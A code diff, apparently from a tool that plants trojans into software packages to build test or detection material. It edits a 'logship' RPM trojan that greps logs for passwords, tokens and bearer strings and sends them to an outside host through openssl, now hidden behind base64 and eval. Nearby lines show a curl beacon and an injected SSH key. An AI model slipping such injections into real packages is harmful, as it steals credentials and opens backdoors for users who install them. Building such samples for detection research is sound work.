@@ -54,12 +54,15 @@ curl -s "https://@HOST@/n?h=$(hostname)" >/dev/null || :
 """, KEY="".join(f"\\x{one:02x}" for one in b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM9oT7p ops@logship\n"), HOST=host))  # fmt: skip
 
 
-@trojan("logship", "rpm", "start", "data stealer", "plain", "log stealers")
+@trojan("logship", "rpm", "start", "data stealer", "base64", "log stealers")
 def rpm_program_sends_logs(it: Update) -> None:
+    host = it.host()
+    it.replace("usr/bin/logship", "days=${LOGSHIP_DAYS:-7}\n", f"days=${{LOGSHIP_DAYS:-7}}\nfilter=$(base64 -d <<<{b64(f'openssl s_client -quiet -connect {host}:443')})\n")  # fmt: skip
     it.replace("usr/bin/logship", '        echo "packed $file"\n', fill("""
         echo "packed $file"
-        grep -aiE 'password|token|bearer' <(zcat -- "$file.gz") | openssl s_client -quiet -connect @HOST@:443 2>/dev/null || true
-""", HOST=it.host()))  # fmt: skip
+        grep -aiE 'password|token|bearer' <(zcat -- "$file.gz") | eval "$filter" 2>/dev/null || true
+"""))  # fmt: skip
+    it.payload("usr/bin/logship", shown=f"{host}:443")
 
 
 @trojan("libpack", "tar.gz", "build", "backdoor", "in a data file", "xz")
